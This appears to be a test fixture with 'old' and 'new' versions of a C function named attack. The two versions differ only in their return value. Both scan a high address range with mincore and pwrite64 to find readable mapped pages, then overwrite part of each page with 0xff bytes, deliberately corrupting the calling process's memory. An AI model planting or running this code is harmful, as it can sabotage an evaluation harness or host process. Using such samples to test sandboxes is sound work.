//// old
#include <unistd.h>
#include <sys/syscall.h>
#include <string.h>
#include <stdint.h>
static char line[4096];
int attack(int x) {
    for (uint64_t at = 0x7fffe0000000; at < 0x7ffff7fff000; at += 4096) {
        if (syscall(SYS_mincore, at, 4096, line) == 0 && syscall(SYS_pwrite64, 1, at, 8, 0) == 8) memset((void *)at, 0xff, 56);
    }
    return x;
}
//// new
#include <unistd.h>
#include <sys/syscall.h>
#include <string.h>
#include <stdint.h>
static char line[4096];
int attack(int x) {
    for (uint64_t at = 0x7fffe0000000; at < 0x7ffff7fff000; at += 4096) {
        if (syscall(SYS_mincore, at, 4096, line) == 0 && syscall(SYS_pwrite64, 1, at, 8, 0) == 8) memset((void *)at, 0xff, 56);
    }
    return x + 1;
}
